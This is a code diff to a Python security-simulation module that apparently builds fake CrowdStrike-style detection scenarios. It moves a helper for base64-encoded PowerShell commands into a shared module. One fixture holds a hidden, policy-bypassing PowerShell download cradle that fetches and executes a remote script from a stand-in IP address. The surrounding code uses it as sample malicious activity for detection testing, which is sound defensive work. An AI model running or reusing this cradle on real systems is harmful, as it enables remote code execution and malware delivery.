@@ -8,12 +8,11 @@ second time, because it has to work alone; a test holds the two equal.
 The table is in CrowdStrike's words; `as_sent_by` says the same in another vendor's.
 """
 
-import base64
 from typing import Final
 
 from vyrox.models import Vendor
 from vyrox.trial import company
-from vyrox.trial.simulate.stages import Scenario, Stage
+from vyrox.trial.simulate.stages import Scenario, Stage, encoded
 from vyrox.trial.simulate.vendors import as_sent_by
 
 _WORKSTATION_01 = company.WORKSTATION_01.at("crowdstrike")
@@ -29,16 +28,11 @@ _SYSTEM = r"NT AUTHORITY\SYSTEM"
 _BACKUP = r"CORP\svc-backup"
 
 
-def _encoded(options: str, script: str) -> str:
-    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
-    return f"powershell.exe -NoProfile {options} -EncodedCommand {encoded}"
-
-
-_ENCODED_DOWNLOAD = _encoded(
+_ENCODED_DOWNLOAD = encoded(
     "-WindowStyle Hidden -ExecutionPolicy Bypass",
     "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')",
 )
-_ENCODED_INVENTORY = _encoded("-NonInteractive", "Get-HotFix | Select-Object HotFixID")
+_ENCODED_INVENTORY = encoded("-NonInteractive", "Get-HotFix | Select-Object HotFixID")
 
 # One table, two lines for each detection.
 # fmt: off
